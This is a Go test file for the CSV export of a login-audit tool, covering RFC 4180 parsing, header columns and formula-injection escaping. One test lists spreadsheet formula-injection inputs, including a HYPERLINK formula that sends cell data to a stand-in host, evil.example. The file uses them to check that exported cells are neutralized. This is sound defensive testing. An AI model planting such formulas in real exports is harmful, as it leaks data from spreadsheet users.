package export_test

import (
	stdcsv "encoding/csv"
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/loginaudit/loginaudit/internal/query"
)

// records reads CSV by the grammar of RFC 4180 and nothing else.
func records(t testing.TB, text string) (all [][]string) {
	t.Helper()
	var record []string
	for rest := text; rest != ""; {
		var cell string
		if strings.HasPrefix(rest, `"`) {
			rest = rest[1:]
			for {
				i := strings.IndexByte(rest, '"')
				if i < 0 {
					t.Fatalf("a quote is not closed in %q", text)
				}
				cell, rest = cell+rest[:i], rest[i+1:]
				if !strings.HasPrefix(rest, `"`) {
					break
				}
				cell, rest = cell+`"`, rest[1:]
			}
		} else {
			i := strings.IndexAny(rest, ",\"\r\n")
			if i < 0 || rest[i] == '"' {
				t.Fatalf("a cell without quotes does not end in %q", rest)
			}
			cell, rest = rest[:i], rest[i:]
		}
		record = append(record, cell)
		switch {
		case strings.HasPrefix(rest, ","):
			rest = rest[1:]
		case strings.HasPrefix(rest, "\r\n"):
			rest = rest[2:]
			all, record = append(all, record), nil
		default:
			t.Fatalf("neither comma nor CRLF at %q", rest)
		}
	}
	if record != nil {
		t.Fatal("the last record is not ended")
	}
	return all
}

// cells are an event as the cells of a record, by the documentation.
func cells(t testing.TB, e query.Event) []string {
	t.Helper()
	var members map[string]any
	decoder := json.NewDecoder(strings.NewReader(string(asLists(t, e))))
	decoder.UseNumber()
	if err := decoder.Decode(&members); err != nil {
		t.Fatal(err)
	}
	text := func(s *string) string {
		if s == nil {
			return ""
		}
		return *s
	}
	attributes := ""
	if e.Attributes != nil {
		attributes = strings.TrimSuffix(string(asLists(t, e.Attributes)), "\n")
	}
	return []string{
		e.ID, e.Account, e.Username, e.OccurredAt.String(), fmt.Sprint(members["entry"]), e.EntryName, fmt.Sprint(members["status"]),
		e.StatusName, string(e.Kind), string(e.Outcome), text(e.SessionID), text(e.IP), text(e.UserAgent), text(e.Service),
		text((*string)(e.MFAMethod)), text(e.DeviceID), text(e.RequestID), text(e.Reason), attributes,
		e.ReceivedAt.String(), e.IngestedAt.String(), strconv.FormatUint(e.StreamSeq, 10), strconv.FormatBool(e.Conflict),
	}
}

// TestCSVGivesEveryTextBack reads the file by the rules of its documentation: RFC
// 4180, and one leading apostrophe away.
func TestCSVGivesEveryTextBack(t *testing.T) {
	rapid.Check(t, func(rt *rapid.T) {
		events := someEvents(rt)
		rows := records(t, string(written(t, query.ExportCSV, events)))
		if len(rows) != len(events)+1 {
			rt.Fatalf("%d records for %d events", len(rows), len(events))
		}
		for i, row := range rows[1:] {
			for j := range row {
				row[j] = strings.TrimPrefix(row[j], "'")
			}
			if want := cells(t, events[i]); strings.Join(row, "\x00|") != strings.Join(want, "\x00|") {
				rt.Fatalf("got  %q\nwant %q", row, want)
			}
		}
	})
}

func TestCSVHeaderNamesTheMembersOfAnEvent(t *testing.T) {
	header := records(t, string(written(t, query.ExportCSV, nil)))[0]
	var members []string
	decoder := json.NewDecoder(strings.NewReader(string(asLists(t, query.Event{}))))
	if _, err := decoder.Token(); err != nil { // the brace
		t.Fatal(err)
	}
	for decoder.More() {
		name, err := decoder.Token()
		if err != nil {
			t.Fatal(err)
		}
		members = append(members, name.(string)) //nolint:forcetypeassert // the name of a member
		var value json.RawMessage
		if err := decoder.Decode(&value); err != nil {
			t.Fatal(err)
		}
	}
	if strings.Join(header, ",") != strings.Join(members, ",") {
		t.Errorf("the columns are %v,\nthe members %v", header, members)
	}
}

func TestCSVIsReadByTheStandardLibrary(t *testing.T) {
	e := realEvent(0)
	e.Username, e.Reason = `a "quoted", name`, new("two\nlines")
	rows, err := stdcsv.NewReader(strings.NewReader(string(written(t, query.ExportCSV, []query.Event{e})))).ReadAll()
	if err != nil || len(rows) != 2 || rows[1][2] != e.Username || rows[1][17] != *e.Reason {
		t.Errorf("%q, %v", rows, err)
	}
}

// TestCSVHasNoFormula: no cell begins, quoted or not, with what a spreadsheet takes
// for one.
func TestCSVHasNoFormula(t *testing.T) {
	for _, text := range []string{
		"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\x00=1", "＝1+1", "＋1", "－1", "＠SUM", " =1", "\u00a0=1", "\ufeff=1",
		`=HYPERLINK("https://evil.example?x="&A1,"click")`, "'=1",
	} {
		e := realEvent(0)
		e.Username, e.Reason, e.UserAgent = text, &text, &text
		for _, row := range records(t, string(written(t, query.ExportCSV, []query.Event{e})))[1:] {
			for _, i := range []int{2, 12, 17} {
				if row[i] != "'"+text {
					t.Errorf("%q became %q, want an apostrophe in front", text, row[i])
				}
			}
		}
	}
}

func TestCSVLeavesOrdinaryTextsAlone(t *testing.T) {
	for _, text := range []string{"ann", "1=1", "a=b", "name-1", "名前", "_x", "(1)", "é", " ", "a@b.example", "{}", "10.0.0.1", "::1"} {
		e := realEvent(0)
		e.Username = text
		if row := records(t, string(written(t, query.ExportCSV, []query.Event{e})))[1]; row[2] != text {
			t.Errorf("%q became %q", text, row[2])
		}
	}
}
